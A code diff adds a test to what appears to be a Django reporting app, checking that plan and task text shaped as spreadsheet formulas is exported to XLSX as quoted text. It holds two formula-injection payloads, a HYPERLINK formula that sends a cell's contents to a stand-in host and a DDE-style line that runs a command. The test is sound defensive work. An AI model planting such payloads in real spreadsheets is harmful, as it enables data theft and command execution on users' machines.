@@ -120,6 +120,26 @@ def test_the_implementation_table_downloads_as_xlsx(client, cast, today):
     assert grid[2][:3] == ("STT", "Nhiệm vụ", "Thời hạn") and len(grid) == 3 + 2
 
 
+def test_the_implementation_table_writes_hostile_text_as_text(client, cast, today):
+    """A plan's title and a task's text typed as formulas stay text in the XLSX (core.xlsx quotes them)."""
+    plan = province_plan(cast)
+    Plan.objects.filter(pk=plan.pk).update(title='=HYPERLINK("http://evil.example/?d="&A1,"Xem")')
+    plan.tasks.filter(number=1).update(text="+1+cmd|' /C calc'!A0")
+    client.force_login(cast.carol)
+    response = client.get(reverse("reporting:plan_export", args=[plan.pk]))
+    book = openpyxl.load_workbook(
+        io.BytesIO(b"".join(response.streaming_content if response.streaming else [response.content]))
+    )
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert all(cell.data_type != "f" for cell in cells)
+    hostile = [cell for cell in cells if isinstance(cell.value, str) and cell.value[:1] in "=+"]
+    assert {cell.value for cell in hostile} >= {
+        '=HYPERLINK("http://evil.example/?d="&A1,"Xem")',
+        "+1+cmd|' /C calc'!A0",
+    }
+    assert all(cell.quotePrefix for cell in hostile)
+
+
 def test_the_api_creates_idempotently_reports_progress_and_answers_409_when_stale(client, cast, today):
     client.force_login(cast.carol)
     body = {
